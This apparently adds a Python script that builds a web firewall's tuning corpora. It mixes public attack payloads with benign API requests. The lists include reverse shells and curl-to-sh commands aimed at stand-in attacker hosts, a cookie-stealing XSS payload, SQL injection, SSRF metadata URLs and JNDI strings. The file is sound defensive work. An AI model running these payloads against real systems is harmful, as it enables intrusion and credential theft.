@@ -1,0 +1,811 @@
+# ruff: noqa: E501 - payload and sample lists read best one line each
+"""Writes attacks.jsonl and benign.jsonl, the WAF's tuning corpora (run once, committed).
+
+The payloads are hand-picked from public attack write-ups and cheat sheets
+(OWASP testing guide, PayloadsAllTheThings-style lists, log4shell and SSRF
+bypass write-ups) and placed into realistic JSON API requests at varied
+locations and encodings.  Benign requests imitate what real JSON APIs carry.
+These are the sets the default rules are tuned on; the held-out corpus is
+assembled separately and never read by whoever writes the rules.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import random
+from pathlib import Path
+from urllib.parse import quote
+
+HERE = Path(__file__).parent
+rng = random.Random(15)
+
+SQLI = [
+    "1' OR '1'='1", "' OR 1=1--", "admin'--", "admin' #", "' OR 'a'='a", "1 OR 1=1",
+    "1' UNION SELECT username, password FROM users--", "-1 UNION ALL SELECT NULL,NULL,NULL--",
+    "1 UnIoN/**/SeLeCt 1,2,3", "1'/**/or/**/'1'='1", "1; DROP TABLE users--",
+    "'; EXEC xp_cmdshell('dir')--", "1' AND SLEEP(5)--", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
+    "'; WAITFOR DELAY '0:0:5'--", "1' AND extractvalue(1,concat(0x7e,version()))--",
+    "1 AND updatexml(1,concat(0x7e,(SELECT user())),1)", "' ORDER BY 3--", "1 ORDER BY 10#",
+    "x' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
+    "1' AND ascii(substring((SELECT password FROM users LIMIT 1),1,1))>64--",
+    "' UNION SELECT table_name FROM information_schema.tables--", "1) OR (1=1",
+    "') OR ('1'='1", "\" OR \"\"=\"", "' OR ''='", "1' || '1'='1", "1 || 1=1",
+    "'; SELECT pg_sleep(5)--", "1; SELECT load_file('/etc/passwd')",
+    "' UNION SELECT 1, @@version--", "1' AND 1=CAST((SELECT version()) AS int)--",
+    "' AND BENCHMARK(5000000,MD5(1))--", "admin' or 1=1 limit 1 -- -",
+    "1%27%20OR%20%271%27%3D%271", "%2527%20OR%201%3D1--", "ＵＮＩＯＮ ＳＥＬＥＣＴ password FROM users",
+    "1 AND 1=1 UNION SELECT name, sql FROM sqlite_master", "' or true--", "x' or not 'x'='y",
+    "1' AND (SELECT 1 FROM pg_catalog.pg_tables LIMIT 1)=1--",
+    "';shutdown--", "1 into outfile '/var/www/shell.php'", "1' GROUP BY 1,2,3--",
+    "CHAR(83)+CHAR(69)+CHAR(76)", "' OR username LIKE '%admin%'--",
+]
+XSS = [
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(document.domain)>",
+    "<body onload=alert('xss')>", "javascript:alert(document.cookie)", "\"><script>alert(1)</script>",
+    "'><img src=x onerror=prompt(1)>", "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<a href=\"javascript:alert(1)\">click</a>", "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>", "<ScRiPt>alert(1)</sCrIpT>", "%3Cscript%3Ealert(1)%3C/script%3E",
+    "&lt;script&gt;alert(1)&lt;/script&gt;", "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<svg><script>alert&#40;1&#41;</script>", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
+    "<div style=\"background:url(javascript:alert(1))\">", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "java\tscript:alert(1)",
+    "<marquee onstart=alert(1)>", "<video><source onerror=\"alert(1)\">", "\" onmouseover=\"alert(1)",
+    "<img src=x onerror=fetch('https://evil.example/?c='+document.cookie)>", "<embed src=javascript:alert(1)>",
+    "<base href=\"javascript:alert(1)//\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "＜script＞alert(1)＜/script＞", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "%253Cscript%253Ealert(1)%253C%252Fscript%253E", "<img src=1 onerror=\\u0061lert(1)>",
+    "data:text/html,<script>alert(1)</script>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
+    "';alert(String.fromCharCode(88,83,83))//", "<form action=javascript:alert(1)><input type=submit>",
+    "<x onclick=alert(1)>click", "<style>@import 'javascript:alert(1)';</style>",
+    "<img src=`x` onerror=`alert(1)`>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+]
+TRAVERSAL = [
+    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "....//....//....//etc/passwd", "..\\..\\..\\windows\\win.ini", "%252e%252e%252f%252e%252e%252fetc/shadow",
+    "/etc/passwd", "../../../../proc/self/environ", "..%c0%af..%c0%afetc/passwd",
+    "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd",
+    "../../../../../../boot.ini", "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
+    "/var/www/../../etc/passwd", "....\\\\....\\\\windows\\\\win.ini", "../../../../root/.ssh/id_rsa",
+    "..%252f..%252f..%252fetc%252fpasswd", "phar://uploads/avatar.jpg/shell", "../../WEB-INF/web.xml",
+    "/proc/self/cmdline", "C:\\Windows\\System32\\config\\SAM", "..%00/..%00/etc/passwd",
+    "%2e%2e/%2e%2e/%2e%2e/var/log/auth.log", "../../../../../../../../etc/passwd%00.png",
+    "expect://id", "../../../../home/app/.env", "..;/..;/..;/etc/passwd",
+]
+CMDI = [
+    "; cat /etc/passwd", "| whoami", "&& id", "`id`", "$(whoami)", "127.0.0.1; ls -la",
+    "8.8.8.8 && cat /etc/shadow", "example.com | nc attacker.example 4444 -e /bin/sh",
+    "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "x || curl http://evil.example/s.sh | sh",
+    "; wget http://evil.example/x -O /tmp/x; chmod +x /tmp/x; /tmp/x", "|| ping -c 10 127.0.0.1",
+    "test$(sleep 5)", "a;id;", "%3Bcat%20%2Fetc%2Fpasswd", "file.txt; rm -rf /", "${IFS}cat${IFS}/etc/passwd",
+    "; python -c 'import socket,subprocess,os;s=socket.socket()'", "| powershell -enc SQBFAFgA",
+    "& cmd /c dir", "; nslookup $(whoami).attacker.example", "`curl attacker.example`",
+    "x\n/bin/sh -c id", "; echo dGVzdA== | base64 -d | sh", "|cat${IFS}/etc/passwd",
+    "1;uname -a", "$(curl -s http://evil.example/$(hostname))", "; mkfifo /tmp/f; nc 10.0.0.1 4444 < /tmp/f",
+    "{cat,/etc/passwd}", "a|/usr/bin/id",
+]
+SSRF = [
+    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:8080/admin",
+    "http://localhost/server-status", "http://2130706433/", "http://0x7f000001/", "http://0177.0.0.1/",
+    "http://[::1]:6379/", "http://[::ffff:127.0.0.1]/", "http://metadata.google.internal/computeMetadata/v1/",
+    "gopher://127.0.0.1:6379/_FLUSHALL", "dict://localhost:11211/stats", "file:///etc/passwd",
+    "http://10.0.0.5:9200/_cat/indices", "http://192.168.1.1/admin", "http://172.16.0.10:2375/containers/json",
+    "http://169.254.169.254.nip.io/", "http://0/", "http://127.1/", "http://0.0.0.0:22",
+    "http://[fd00:ec2::254]/latest/meta-data/", "http://100.100.100.200/latest/meta-data/",
+    "http://user:pass@127.0.0.1:8000/", "https://evil.example@169.254.169.254/", "http://127.0.0.1.nip.io/",
+    "http://localhost.localdomain/", "169.254.169.254", "http://instance-data/latest/", "http://[0:0:0:0:0:ffff:7f00:1]/",
+    "ldap://127.0.0.1:389/", "http://kubernetes.default.svc/api/v1/secrets", "http://%31%32%37%2e%30%2e%30%2e%31/",
+    "http://017700000001/", "jar:http://127.0.0.1!/", "netdoc:///etc/passwd",
+]
+SSTI = [
+    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
+    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
+    "{{lipsum.__globals__.os.popen('id').read()}}", "{{cycler.__init__.__globals__.os.popen('id').read()}}",
+    "${T(java.lang.Runtime).getRuntime().exec('id')}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
+    "#set($x=$class.forName('java.lang.Runtime'))", "{{self._TemplateReference__context.cycler.__init__.__globals__.os}}",
+    "{% import os %}{{ os.system('id') }}", "{{ ''|attr('__class__') }}", "${{7*7}}", "@{7*7}",
+    "{{constructor.constructor('alert(1)')()}}", "*{7*7}", "{{=7*7}}", "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
+    "${\"\".getClass().forName(\"java.lang.Runtime\")}", "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
+    "{{7*'7'}}", "{{ [].__class__.__base__.__subclasses__() }}",
+]
+JNDI = [
+    "${jndi:ldap://attacker.example/a}", "${jndi:rmi://attacker.example:1099/x}", "${jndi:dns://attacker.example/x}",
+    "${${lower:j}ndi:${lower:l}dap://attacker.example/a}", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}",
+    "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x.example/}", "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/}",
+    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}", "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
+    "${jndi:ldaps://x.example/a}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}",
+    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}", "${jndi:iiop://x.example/a}", "${${::-j}ndi:ldap://x.example/a}",
+    "${jNdI:lDaP://x.example/a}", "${${lower:${lower:jndi}}:${lower:rmi}://x.example/a}",
+]
+SCANNER_UA = [
+    "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
+    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
+    "gobuster/3.6", "Fuzz Faster U Fool v2.1.0", "Wfuzz/3.1.0", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x", "Acunetix-WVS/12",
+    "Mozilla/5.0 (Windows NT 10.0) Netsparker", "DirBuster-1.0-RC1", "w3af.org", "commix/v3.8",
+]
+SCANNER_PATHS = ["/.env", "/.git/config", "/wp-login.php", "/wp-admin/install.php", "/phpmyadmin/index.php",
+                 "/.aws/credentials", "/server-status", "/actuator/env", "/xmlrpc.php", "/.DS_Store",
+                 "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci", "/.svn/entries"]
+
+FIELDS = ["comment", "q", "name", "title", "description", "url", "callback", "file", "path", "host",
+          "search", "note", "redirect", "template", "username", "email", "filter", "sort", "id"]
+
+# A second batch, written after the first rules (so also tuned on): (category, payload);
+# UA: goes in the user agent, PATH: is the request path, anything else a JSON field or query.
+SECOND_BATCH = [
+ [
+  "sqli",
+  "' or 1=1 limit 1#"
+ ],
+ [
+  "sqli",
+  "1' and '1'='1"
+ ],
+ [
+  "sqli",
+  "' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055"
+ ],
+ [
+  "sqli",
+  "1;SELECT IF((8303>8302),SLEEP(9),2356)#"
+ ],
+ [
+  "sqli",
+  "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))-- "
+ ],
+ [
+  "sqli",
+  "admin\")-- "
+ ],
+ [
+  "sqli",
+  "') or ('x')=('x"
+ ],
+ [
+  "sqli",
+  "\" or 1=1--"
+ ],
+ [
+  "sqli",
+  "1 and 1=2 union select 1,group_concat(table_name),3 from information_schema.tables"
+ ],
+ [
+  "sqli",
+  "' HAVING 1=1--"
+ ],
+ [
+  "sqli",
+  "'+(select*from(select(sleep(20)))a)+'"
+ ],
+ [
+  "sqli",
+  "1 OR pg_sleep(5)--"
+ ],
+ [
+  "sqli",
+  "-1' or 2 > 1 --"
+ ],
+ [
+  "sqli",
+  "%' AND 1=1 AND '%'='"
+ ],
+ [
+  "sqli",
+  "'||(SELECT version())||'"
+ ],
+ [
+  "sqli",
+  "1' AND 1=(SELECT 1 FROM dual)--"
+ ],
+ [
+  "xss",
+  "<svg onload=alert(1)//"
+ ],
+ [
+  "xss",
+  "<img src=x:alert(alt) onerror=eval(src) alt=0>"
+ ],
+ [
+  "xss",
+  "<a href=\"jav&#x09;ascript:alert('XSS');\">Click</a>"
+ ],
+ [
+  "xss",
+  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"
+ ],
+ [
+  "xss",
+  "\"><svg/onload=confirm`1`>"
+ ],
+ [
+  "xss",
+  "<body background=\"javascript:alert(1)\">"
+ ],
+ [
+  "xss",
+  "<sVg OnLoAd=alert(1)>"
+ ],
+ [
+  "xss",
+  "<keygen autofocus onfocus=alert(1)>"
+ ],
+ [
+  "xss",
+  "'-alert(1)-'"
+ ],
+ [
+  "xss",
+  "\";alert(1);//"
+ ],
+ [
+  "xss",
+  "</title><script>alert(1)</script>"
+ ],
+ [
+  "xss",
+  "<img src=\"x\" onerror=\"&#x61;lert(1)\">"
+ ],
+ [
+  "xss",
+  "<audio src=x onerror=alert(1)>"
+ ],
+ [
+  "xss",
+  "<select autofocus onfocus=alert(1)>"
+ ],
+ [
+  "xss",
+  "<textarea autofocus onfocus=alert(1)>"
+ ],
+ [
+  "xss",
+  "<script src=//evil.example/x.js></script>"
+ ],
+ [
+  "xss",
+  "{{constructor.constructor('alert(1)')()}}"
+ ],
+ [
+  "path_traversal",
+  "../../../../../../etc/passwd%00"
+ ],
+ [
+  "path_traversal",
+  "..%255c..%255c..%255cwindows%255cwin.ini"
+ ],
+ [
+  "path_traversal",
+  "/../../../../../../../../../../etc/hosts"
+ ],
+ [
+  "path_traversal",
+  "..../..../..../etc/passwd"
+ ],
+ [
+  "path_traversal",
+  "/%2e%2e/%2e%2e/%2e%2e/etc/passwd"
+ ],
+ [
+  "path_traversal",
+  "\\..\\..\\..\\..\\..\\windows\\system32\\config\\sam"
+ ],
+ [
+  "path_traversal",
+  "../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token"
+ ],
+ [
+  "path_traversal",
+  "file:/etc/passwd"
+ ],
+ [
+  "path_traversal",
+  "../../../../../app/config/database.yml"
+ ],
+ [
+  "command_injection",
+  ";ls -la"
+ ],
+ [
+  "command_injection",
+  "|id"
+ ],
+ [
+  "command_injection",
+  "`whoami`"
+ ],
+ [
+  "command_injection",
+  "$(cat /etc/passwd)"
+ ],
+ [
+  "command_injection",
+  "; curl http://evil.example/shell.sh | bash"
+ ],
+ [
+  "command_injection",
+  "&& ping -c 3 evil.example"
+ ],
+ [
+  "command_injection",
+  "| nc -e /bin/bash 10.0.0.1 4444"
+ ],
+ [
+  "command_injection",
+  "; sleep 10"
+ ],
+ [
+  "command_injection",
+  "127.0.0.1 | dir"
+ ],
+ [
+  "command_injection",
+  ";system('id')"
+ ],
+ [
+  "command_injection",
+  "%0Aid"
+ ],
+ [
+  "command_injection",
+  "a%0a%0dcat%20/etc/passwd"
+ ],
+ [
+  "command_injection",
+  "|| whoami"
+ ],
+ [
+  "command_injection",
+  "; ls${IFS}-la"
+ ],
+ [
+  "command_injection",
+  "$(nslookup evil.example)"
+ ],
+ [
+  "command_injection",
+  "; /bin/bash -c 'bash -i >& /dev/tcp/1.2.3.4/80 0>&1'"
+ ],
+ [
+  "ssrf",
+  "http://127.0.0.1:22"
+ ],
+ [
+  "ssrf",
+  "http://[::]:80/"
+ ],
+ [
+  "ssrf",
+  "http://0x7f.0x0.0x0.0x1/"
+ ],
+ [
+  "ssrf",
+  "http://localhost:6379/"
+ ],
+ [
+  "ssrf",
+  "http://169.254.169.254/computeMetadata/v1/instance/"
+ ],
+ [
+  "ssrf",
+  "http://metadata/computeMetadata/v1/"
+ ],
+ [
+  "ssrf",
+  "http://192.168.0.1:8080/login"
+ ],
+ [
+  "ssrf",
+  "http://10.1.2.3/internal/api"
+ ],
+ [
+  "ssrf",
+  "https://127.0.0.1/"
+ ],
+ [
+  "ssrf",
+  "gopher://localhost:25/_HELO"
+ ],
+ [
+  "ssrf",
+  "http://2852039166/"
+ ],
+ [
+  "ssrf",
+  "http://0251.0376.0251.0376/"
+ ],
+ [
+  "ssrf",
+  "http://[::ffff:a9fe:a9fe]/"
+ ],
+ [
+  "ssrf",
+  "http://127.0.0.1%2523@evil.example/"
+ ],
+ [
+  "ssrf",
+  "http://localtest.me/"
+ ],
+ [
+  "ssrf",
+  "http://spoofed.burpcollaborator.net"
+ ],
+ [
+  "ssti",
+  "{{7*7}}[[5*5]]"
+ ],
+ [
+  "ssti",
+  "${{<%[%'\"}}%\\."
+ ],
+ [
+  "ssti",
+  "{{ config }}"
+ ],
+ [
+  "ssti",
+  "{{ self.__init__.__globals__.__builtins__ }}"
+ ],
+ [
+  "ssti",
+  "<%= system(\"id\") %>"
+ ],
+ [
+  "ssti",
+  "${7*7}"
+ ],
+ [
+  "ssti",
+  "#{7*7}"
+ ],
+ [
+  "ssti",
+  "{{'a'.toUpperCase()}}"
+ ],
+ [
+  "ssti",
+  "{php}echo `id`;{/php}"
+ ],
+ [
+  "ssti",
+  "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"
+ ],
+ [
+  "jndi",
+  "${jndi:ldap://127.0.0.1:1389/Basic/Command/Base64/d2dldA==}"
+ ],
+ [
+  "jndi",
+  "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.com/a}"
+ ],
+ [
+  "jndi",
+  "${jndi:${lower:d}${lower:n}${lower:s}://evil.example}"
+ ],
+ [
+  "jndi",
+  "${j${lower:n}di:ldap://x/}"
+ ],
+ [
+  "jndi",
+  "${${::-j}ndi:rmi://evil/a}"
+ ],
+ [
+  "scanner",
+  "UA:Mozilla/5.0 (compatible; Nuclei)"
+ ],
+ [
+  "scanner",
+  "UA:sqlmap/1.4"
+ ],
+ [
+  "scanner",
+  "UA:Nikto"
+ ],
+ [
+  "command_injection",
+  "UA:() { :; }; /bin/bash -c 'cat /etc/passwd'"
+ ],
+ [
+  "jndi",
+  "UA:${jndi:ldap://evil/a}"
+ ],
+ [
+  "scanner",
+  "PATH:/.git/HEAD"
+ ],
+ [
+  "scanner",
+  "PATH:/.env.production"
+ ],
+ [
+  "scanner",
+  "PATH:/wp-content/plugins/revslider/temp/update_extract/revslider/shell.php"
+ ],
+ [
+  "scanner",
+  "PATH:/admin/config.php.bak"
+ ],
+ [
+  "scanner",
+  "PATH:/backup.sql"
+ ],
+ [
+  "path_traversal",
+  "PATH:/.well-known/../etc/passwd"
+ ],
+ [
+  "path_traversal",
+  "PATH:/api/../../../etc/passwd"
+ ],
+ [
+  "scanner",
+  "PATH:/phpinfo.php"
+ ],
+ [
+  "scanner",
+  "PATH:/debug/pprof/"
+ ]
+]
+# Tricky benign values written with the second batch.
+SECOND_BENIGN = [
+ "I think we should SELECT the top 10 users by score and ORDER BY created_at.",
+ "Fix: use `cursor.execute(\"SELECT * FROM users WHERE id = %s\", (user_id,))` instead of string formatting.",
+ "Ran `rm -rf node_modules && npm install` and it works now.",
+ "Try `docker compose up -d && docker compose logs -f api`",
+ "The bug: `if user.role == 'admin' or user.id == 1:` grants too much.",
+ "Use `cat config.yaml | grep port` to check.",
+ "She said: \"I'll be there at 5 -- don't wait.\"",
+ "Tom's \"special\" offer: 2 for 1!",
+ "<p>Watch: <iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" frameborder=\"0\" allowfullscreen></iframe></p>",
+ "<p><a href=\"https://example.com\" target=\"_blank\" rel=\"noopener\">link</a></p>",
+ "<img src=\"https://example.com/a.png\" alt=\"a\" style=\"width:100%\">",
+ "<div class=\"note\"><strong>Note:</strong> back up first.</div>",
+ "<p>Formula: a < b && c > d</p>",
+ "Windows path: C:\\Program Files\\App\\bin\\app.exe",
+ "Linux path: /usr/local/bin/python3",
+ "See ../README.md for details",
+ "The config lives in /etc/nginx/nginx.conf on the server.",
+ "Our staging server is at http://localhost:8080 for now.",
+ "callback: https://hooks.example.com/ramparts?id=42&sig=abc",
+ "Email me at o'brien@example.ie",
+ "{\"nested\": \"json in a string\"}",
+ "SELECT",
+ "Union Pacific Railroad",
+ "Drop-off at 3pm; pick-up at 5pm",
+ "1 + 1 = 2, and 2 * 3 = 6",
+ "Price: $5 (or 4 for members)",
+ "Hello {{name}}, your order {{order_id}} has shipped.",
+ "Dear ${firstName}, welcome!",
+ "Use the `sleep 5` command in the script to wait.",
+ "git commit -m \"fix: handle ' in names\"",
+ "The regex is /^[a-z]+$/i",
+ "x = y || z; if (a && b) { return; }",
+ "for i in $(seq 1 10); do echo $i; done",
+ "<b>Bold</b> and <i>italic</i> and <u>underline</u>",
+ "&lt;script&gt; tags are escaped by the template",
+ "Use onclick handlers sparingly.",
+ "Javascript: the good parts is a great book.",
+ "We use Java, JavaScript and Python.",
+ "The file was uploaded to /uploads/2024/05/photo.jpg",
+ "My password is 'hunter2' -- just kidding.",
+ "OR-tools is a Google library for optimization.",
+ "100% cotton; machine wash 30°C",
+ "Question: is 1=1? or 2=2?",
+ "I'd like to order 3 pizzas -- 2 margherita, 1 pepperoni.",
+ "Meet me @ the café; it's on 5th & Main.",
+ "Our API: GET /v1/users?limit=10&offset=20",
+ "Run: curl -X POST https://api.example.com/v1/items -d '{\"a\":1}'",
+ "Set env: export DATABASE_URL=postgres://user:pass@db.internal:5432/app",
+ "ping me when you're back",
+ "cat pictures are the best",
+ "Contact: John O'Connor <john@example.com>",
+ "The <strong>best</strong> deals & offers",
+ "Recipe: mix 2 cups flour | 1 cup sugar | 3 eggs",
+ "/home/alice/projects/ramparts",
+ "Tables: users, orders, order_lines",
+ "DELETE this comment please",
+ "insert coin to continue",
+ "update: shipped today"
+]
+
+
+def _ua() -> str:
+    return rng.choice([
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
+        "python-requests/2.31.0", "okhttp/4.12.0", "curl/8.5.0", "MyApp/3.2 (iPhone; iOS 17.4)",
+    ])
+
+
+def _place(payload: str, i: int) -> dict:
+    """One attack request with the payload at a location picked by ``i``."""
+    field = FIELDS[i % len(FIELDS)]
+    where = i % 6
+    headers = {"user-agent": _ua(), "accept": "application/json"}
+    if where == 0:
+        return {"method": "GET", "path": "/api/search", "query": f"{field}={quote(payload)}",
+                "headers": headers, "body": None}
+    if where == 1:
+        headers["content-type"] = "application/json"
+        return {"method": "POST", "path": "/api/items", "query": "", "headers": headers,
+                "body": json.dumps({"id": 17, field: payload, "tags": ["a"]})}
+    if where == 2:
+        headers["content-type"] = "application/json"
+        return {"method": "PUT", "path": "/api/orders/42", "query": "", "headers": headers,
+                "body": json.dumps({"order": {"lines": [{"sku": "A-1", "qty": 2}], field: payload}})}
+    if where == 3:
+        headers["content-type"] = "application/x-www-form-urlencoded"
+        return {"method": "POST", "path": "/api/login", "query": "", "headers": headers,
+                "body": f"user=alice&{field}={quote(payload)}"}
+    if where == 4:
+        headers["cookie"] = f"session=abc123; {field}={quote(payload)}"
+        return {"method": "GET", "path": "/api/profile", "query": "", "headers": headers, "body": None}
+    headers["x-custom-" + field] = payload
+    return {"method": "GET", "path": "/api/status", "query": "", "headers": headers, "body": None}
+
+
+def attacks() -> list[dict]:
+    out: list[dict] = []
+    groups = {"sqli": SQLI, "xss": XSS, "path_traversal": TRAVERSAL, "command_injection": CMDI,
+              "ssrf": SSRF, "ssti": SSTI, "jndi": JNDI}
+    for category, payloads in groups.items():
+        for i, p in enumerate(payloads):
+            # headers cannot carry raw line breaks; those payloads go in a body
+            req = _place(p, i if "\n" not in p else 1)
+            out.append({"id": f"{category}-{i:03d}", "category": category,
+                        "source": "tuning: public cheat sheets", "request": req})
+    for i, ua in enumerate(SCANNER_UA):
+        out.append({"id": f"scanner-ua-{i:03d}", "category": "scanner", "source": "tuning: tool defaults",
+                    "request": {"method": "GET", "path": "/api/items", "query": "",
+                                "headers": {"user-agent": ua}, "body": None}})
+    for i, (category, payload) in enumerate(SECOND_BATCH):
+        if payload.startswith("UA:"):
+            req = {"method": "GET", "path": "/api/items", "query": "",
+                   "headers": {"user-agent": payload[3:]}, "body": None}
+        elif payload.startswith("PATH:"):
+            req = {"method": "GET", "path": payload[5:], "query": "",
+                   "headers": {"user-agent": _ua()}, "body": None}
+        else:
+            req = _place(payload, 2 * i + (i % 2))  # JSON fields, queries, forms, cookies, headers
+        out.append({"id": f"{category}-b{i:03d}", "category": category,
+                    "source": "tuning: second batch", "request": req})
+    for i, path in enumerate(SCANNER_PATHS):
+        out.append({"id": f"scanner-path-{i:03d}", "category": "scanner", "source": "tuning: probe lists",
+                    "request": {"method": "GET", "path": "/static" + path, "query": "",
+                                "headers": {"user-agent": _ua()}, "body": None}})
+    return out
+
+
+NAMES = ["O'Reilly", "D'Angelo", "Seán Ó Briain", "Zoë Saldaña", "José Álvarez", "Jean-Luc Picard",
+         "Mary-Kate O'Neil", "Nguyễn Văn A", "李小龍", "Андрей Иванов", "محمد عبد الله", "Ólafur Arnalds",
+         "Renée Zellweger", "Dr. Samuel L. Jackson, Jr.", "van der Berg", "Shaquille O'Neal", "Bob \"Bobby\" Tables"]
+CODE_REVIEW = [
+    "Can we avoid `SELECT *` here? List the columns explicitly so the index covers the query.",
+    "This builds SQL with f-strings: f\"SELECT id FROM users WHERE email = '{email}'\" -- please use a bound parameter.",
+    "nit: `DELETE FROM sessions WHERE expires_at < now()` should run in the cleanup job, not per request.",
+    "Run `make test && make lint` before pushing; CI runs the same.",
+    "I'd add an index: CREATE INDEX idx_orders_customer ON orders(customer_id);",
+    "The migration does ALTER TABLE accounts ADD COLUMN plan text NOT NULL DEFAULT 'free'; which locks the table on big installs.",
+    "Use `git rebase -i HEAD~3` to squash these.",
+    "LGTM. One question: why `sleep(2)` in the retry loop instead of exponential backoff?",
+    "Reproduce with: curl -s https://api.example.com/v1/items | jq '.items[] | .id'",
+    "The Dockerfile should `rm -rf /var/lib/apt/lists/*` after apt-get install to keep the layer small.",
+    "Prefer `subprocess.run([\"ls\", path])` over os.system(f\"ls {path}\") -- the latter is a shell injection risk.",
+    "Maybe UNION the two result sets instead of two round trips?",
+    "Tests fail locally: `pytest -q tests/api -k orders` gives 3 failures, see the log.",
+    "The query `SELECT count(*) FROM events WHERE kind = 'login' AND ts > now() - interval '1 day'` is slow without the index on ts.",
+    "Please don't log the whole request; the `Authorization` header ends up in Kibana.",
+    "In bash, `for f in *.json; do jq . \"$f\" > /dev/null || echo \"$f\"; done` finds the broken files.",
+    "Good catch on the off-by-one. Also `if (i <= len)` should be `<` in the C version.",
+    "This regex ^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$ rejects plus-addressing? No, it's fine.",
+    "We should escape user input in the template: {{ comment.body | e }} rather than |safe.",
+    "Could you rename `tmp` to `pending_orders`? It's read three screens later.",
+    "ORDER BY created_at DESC LIMIT 50 is what the UI expects; the API returns ascending now.",
+    "The path join `os.path.join(base, name)` allows `../` in name; use safe_join.",
+    "Let's add `set -euo pipefail` at the top of deploy.sh.",
+    "Where does the 'or 1' come from in the test name? Typo?",
+    "Don't forget to update README.md -- the install command changed to `pip install -e .[dev]`.",
+]
+URLS = ["https://example.com/products/42?ref=newsletter", "https://cdn.example.net/img/logo.png",
+        "http://www.example.org/about", "https://github.com/encode/starlette/pull/2190",
+        "https://docs.python.org/3/library/re.html#re.search", "https://maps.google.com/?q=48.8584,2.2945",
+        "https://hooks.slack.com/services/T000/B000/XXXX", "https://api.stripe.com/v1/charges",
+        "mailto:support@example.com", "https://en.wikipedia.org/wiki/O%27Reilly_Media",
+        "https://example.com/search?q=sql+injection+prevention", "https://youtu.be/dQw4w9WgXcQ?t=42"]
+RICH_TEXT = [
+    "<p>Hello <b>world</b>, see <a href=\"https://example.com\">our site</a>.</p>",
+    "<h2>Release notes</h2><ul><li>Faster search</li><li>Dark mode</li></ul>",
+    "<p>Photo: <img src=\"https://cdn.example.com/a.jpg\" alt=\"Team at the offsite\" width=\"600\"></p>",
+    "<blockquote>To be, or not to be</blockquote><p><em>Hamlet</em>, act 3</p>",
+    "<p style=\"color: #333; font-size: 14px\">Styled paragraph</p>",
+    "<table><tr><th>Plan</th><th>Price</th></tr><tr><td>Pro</td><td>$20</td></tr></table>",
+    "<p>Use <code>&lt;div&gt;</code> for layout &amp; <code>&lt;span&gt;</code> inline.</p>",
+    "<ol><li><a href=\"/docs/start\">Getting started</a></li><li><a href=\"/docs/api\">API</a></li></ol>",
+    "<p>Line one<br>Line two<br/>Line three</p>", "<p>5 &lt; 7 and 9 &gt; 3</p>",
+]
+MULTI = ["Привет, как дела? Заказ №1234 готов.", "ご注文ありがとうございます。発送は明日です。",
